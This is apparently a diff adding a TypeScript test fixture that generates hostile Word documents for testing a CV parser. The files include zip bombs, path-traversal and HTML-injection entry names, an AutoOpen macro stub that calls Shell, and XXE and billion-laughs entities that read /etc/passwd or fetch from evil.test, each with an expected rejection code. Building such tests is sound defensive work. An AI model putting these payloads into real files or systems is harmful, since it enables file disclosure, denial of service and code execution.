@@ -1,0 +1,207 @@
+import { write, utils } from 'cfb';
+import { zipSync, type Zippable } from 'fflate';
+import { damaged, type Draw, type Hostile } from './hostile.ts';
+import { text } from './make-pdf.ts';
+
+const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
+const line = 'Jane Doe, registered nurse, St Anselm Infirmary, 2019 to 2022';
+
+/** A document's XML around paragraphs. */
+export function documentXml(body: string, before = ''): string {
+  return `<?xml version="1.0" encoding="UTF-8"?>${before}<w:document ${w}><w:body>${body}</w:body></w:document>`;
+}
+
+export function paragraph(content: string, properties = ''): string {
+  return `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t xml:space="preserve">${content}</w:t></w:r></w:p>`;
+}
+
+/** A Word file of XML parts. */
+export function makeDocx(xml: string | Uint8Array, more: Zippable = {}): Uint8Array {
+  return zipSync({ '[Content_Types].xml': text('<Types/>'), 'word/document.xml': typeof xml === 'string' ? text(xml) : xml, ...more });
+}
+
+/** A Word 97 file of the given text. */
+export function makeDoc(content: string, flags = 0x0200): Uint8Array {
+  const main = new Uint8Array(2048 + content.length * 2);
+  const fib = new DataView(main.buffer);
+  fib.setUint16(0, 0xa5ec, true);
+  fib.setUint16(2, 0xc1, true);
+  fib.setUint16(0x0a, flags, true);
+  fib.setInt32(0x4c, content.length, true);
+  fib.setUint32(0x01a2, 0, true);
+  fib.setUint32(0x01a6, 21, true);
+  for (let index = 0; index < content.length; index += 1) fib.setUint16(2048 + index * 2, content.charCodeAt(index), true);
+  const table = new Uint8Array(4096);
+  const clx = new DataView(table.buffer);
+  clx.setUint8(0, 0x02);
+  clx.setUint32(1, 16, true);
+  clx.setUint32(9, content.length, true);
+  clx.setUint32(15, 2048, true);
+  return container({ WordDocument: main, '1Table': table });
+}
+
+function container(streams: Record<string, Uint8Array>): Uint8Array {
+  const file = utils.cfb_new();
+  for (const [name, content] of Object.entries(streams)) utils.cfb_add(file, name, Array.from(content));
+  return Uint8Array.from(Buffer.from(write(file, { type: 'buffer' })));
+}
+
+/** Word files that unpack to too much, define entities, hide text, carry macros, or are broken. */
+export function hostileWordFiles(draw: Draw): Hostile[] {
+  const good = makeDocx(documentXml(paragraph(line).repeat(5)));
+  const doc = makeDoc(`${line}\r`.repeat(20));
+  return [...zips(), ...namesInZips(), ...xml(), ...olds(doc), ...damaged('docx', good, draw, 10, 14), ...damaged('doc', doc, draw, 6, 12)];
+}
+
+function zips(): Hostile[] {
+  const sixty = new Uint8Array(60_000_000).fill(0x20);
+  const lying = makeDocx(documentXml(paragraph(line)) + ' '.repeat(9_000_000));
+  const nested = zipSync({ 'inner.zip': zipSync({ 'word/document.xml': sixty }) });
+  const many = Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`word/${index}.xml`, new Uint8Array(1)]));
+  return [
+    { name: 'a document of 60 MB', bytes: makeDocx(sixty), expected: 'cv_bomb' },
+    { name: 'a picture of 60 MB', bytes: makeDocx(documentXml(paragraph(line)), { 'word/media/a.bmp': sixty }), expected: 'cv_bomb' },
+    { name: 'a document of 9 MB', bytes: lying, expected: 'cv_bomb' },
+    { name: 'a document that says it is small', bytes: withSize(lying, 1000), expected: 'any' },
+    { name: '3,000 entries', bytes: makeDocx(documentXml(paragraph(line)), many), expected: 'cv_bomb' },
+    { name: 'a zip file in a zip file', bytes: nested, expected: 'cv_type' },
+    { name: 'a spreadsheet', bytes: zipSync({ 'xl/workbook.xml': text('<workbook/>') }), expected: 'cv_type' },
+    { name: 'a presentation', bytes: zipSync({ 'ppt/presentation.xml': text('<p/>') }), expected: 'cv_type' },
+    { name: 'an empty zip file', bytes: zipSync({}), expected: 'cv_type' },
+  ];
+}
+
+function namesInZips(): Hostile[] {
+  return [
+    {
+      name: 'names that leave the folder',
+      bytes: makeDocx(documentXml(paragraph(line)), { '../../etc/passwd': text('x'), '/word/document.xml': text('x') }),
+      expected: 'read',
+    },
+    {
+      name: 'names that are HTML',
+      bytes: makeDocx(documentXml(paragraph(line)), { '<img src=x onerror=alert(1)>.xml': text('x') }),
+      expected: 'read',
+    },
+    {
+      name: 'a prototype as a name',
+      bytes: makeDocx(documentXml(paragraph(line)), { '__proto__/x': text('x'), constructor: text('x') }),
+      expected: 'read',
+    },
+    {
+      name: 'macros',
+      bytes: makeDocx(documentXml(paragraph(line)), { 'word/vbaProject.bin': text('Sub AutoOpen() Shell "cmd"') }),
+      expected: 'read',
+    },
+    {
+      name: 'a template elsewhere',
+      bytes: makeDocx(documentXml(paragraph(line)), {
+        'word/_rels/settings.xml.rels': text(
+          '<Relationships><Relationship Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>',
+        ),
+      }),
+      expected: 'read',
+    },
+    {
+      name: 'a file of zeros behind the magic',
+      bytes: Uint8Array.from([0x50, 0x4b, 3, 4, ...Array.from({ length: 5000 }, () => 0)]),
+      expected: 'cv_broken',
+    },
+  ];
+}
+
+/** Changes what a zip file says about the size of its first large entry. */
+function withSize(bytes: Uint8Array, size: number): Uint8Array {
+  const copy = bytes.slice();
+  const view = new DataView(copy.buffer);
+  for (let at = 0; at < copy.length - 4; at += 1) {
+    const signature = view.getUint32(at, true);
+    if (signature === 0x04034b50 && view.getUint32(at + 22, true) > size) view.setUint32(at + 22, size, true);
+    if (signature === 0x02014b50 && view.getUint32(at + 24, true) > size) view.setUint32(at + 24, size, true);
+  }
+  return copy;
+}
+
+function xml(): Hostile[] {
+  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${`&a${index === 0 ? '' : index - 1};`.repeat(10)}">`).join('')}]>`;
+  const outside = (address: string) => documentXml(paragraph('&x;'), `<!DOCTYPE x [<!ENTITY x SYSTEM "${address}">]>`);
+  const deep = (tag: string, count: number) => `<${tag}>`.repeat(count) + paragraph(line) + `</${tag}>`.repeat(count);
+  const table = (inner: string) => `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`;
+  const tables = Array.from({ length: 100 }).reduce<string>(table, paragraph(line));
+  const broken = ['<w:p>', '</w:p>', '<w:p w:a=1/>', '<', '&nothing;', '\u0001', '<w:p/><w:p/>\u0000', ']]>'];
+  return [
+    { name: 'entities of entities', bytes: makeDocx(documentXml(paragraph('&a19;'), laughs)), expected: 'cv_broken' },
+    { name: 'an entity that is a file', bytes: makeDocx(outside('file:///etc/passwd')), expected: 'cv_broken' },
+    { name: 'an entity that is an address', bytes: makeDocx(outside('http://evil.test/x')), expected: 'cv_broken' },
+    {
+      name: 'a document type elsewhere',
+      bytes: makeDocx(documentXml(paragraph(line), '<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">')),
+      expected: 'cv_broken',
+    },
+    { name: 'tags in tags', bytes: makeDocx(documentXml(deep('w:x', 100_000))), expected: 'cv_broken' },
+    { name: 'tables in tables', bytes: makeDocx(documentXml(tables)), expected: 'read' },
+    { name: 'boxes in boxes', bytes: makeDocx(documentXml(deep('w:txbxContent', 300))), expected: 'any' },
+    {
+      name: '100,000 attributes',
+      bytes: makeDocx(documentXml(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="x"`).join(' ')}/>${paragraph(line)}`)),
+      expected: 'any',
+    },
+    { name: 'one text of 2.5 MB', bytes: makeDocx(documentXml(paragraph('word '.repeat(500_000)))), expected: 'cv_too_large' },
+    { name: 'half a million empty paragraphs', bytes: makeDocx(documentXml(paragraph(line) + '<w:p/>'.repeat(500_000))), expected: 'any' },
+    {
+      name: 'styles based on each other',
+      bytes: makeDocx(documentXml(paragraph(line, '<w:rStyle w:val="a"/>')), {
+        'word/styles.xml': text(
+          `<w:styles ${w}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
+        ),
+      }),
+      expected: 'read',
+    },
+    { name: 'no text', bytes: makeDocx(documentXml('<w:p/>')), expected: 'cv_empty' },
+    { name: 'only a picture', bytes: makeDocx(documentXml('<w:p/>'), { 'word/media/scan.jpg': text('x') }), expected: 'cv_scanned' },
+    {
+      name: 'symbols out of range',
+      bytes: makeDocx(documentXml(`${paragraph(line)}<w:p><w:r><w:sym w:char="FFFFFFFF"/></w:r></w:p>`)),
+      expected: 'any',
+    },
+    ...broken.map((part): Hostile => ({
+      name: `broken XML ${JSON.stringify(part)}`,
+      bytes: makeDocx(documentXml(part + paragraph(line))),
+      expected: 'any',
+    })),
+  ];
+}
+
+function olds(doc: Uint8Array): Hostile[] {
+  const pieces = makeDoc(line);
+  return [
+    { name: 'a Word 97 file', bytes: doc, expected: 'read' },
+    { name: 'a Word 97 file with a password', bytes: makeDoc(line, 0x0300), expected: 'cv_encrypted' },
+    {
+      name: 'a Word file with a password',
+      bytes: container({ EncryptedPackage: new Uint8Array(5000), EncryptionInfo: new Uint8Array(100) }),
+      expected: 'cv_encrypted',
+    },
+    { name: 'an old spreadsheet', bytes: container({ Workbook: new Uint8Array(5000) }), expected: 'cv_type' },
+    {
+      name: 'a Word 97 file with macros',
+      bytes: container({ WordDocument: new Uint8Array(5000), 'Macros/VBA/Module1': text('Shell') }),
+      expected: 'cv_broken',
+    },
+    {
+      name: 'a Word 97 file of zeros',
+      bytes: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array.from({ length: 2000 }, () => 0)]),
+      expected: 'cv_broken',
+    },
+    { name: 'chains that turn in circles', bytes: withCircles(pieces), expected: 'any' },
+    { name: 'a text that says it is endless', bytes: makeDoc(line.padEnd(400_000, ' x')), expected: 'cv_too_large' },
+  ];
+}
+
+/** Points every entry of the first table of sectors at the first sector. */
+function withCircles(bytes: Uint8Array): Uint8Array {
+  const copy = bytes.slice();
+  const view = new DataView(copy.buffer);
+  for (let at = 512; at < Math.min(copy.length, 4608); at += 4) view.setInt32(at, 1, true);
+  return copy;
+}
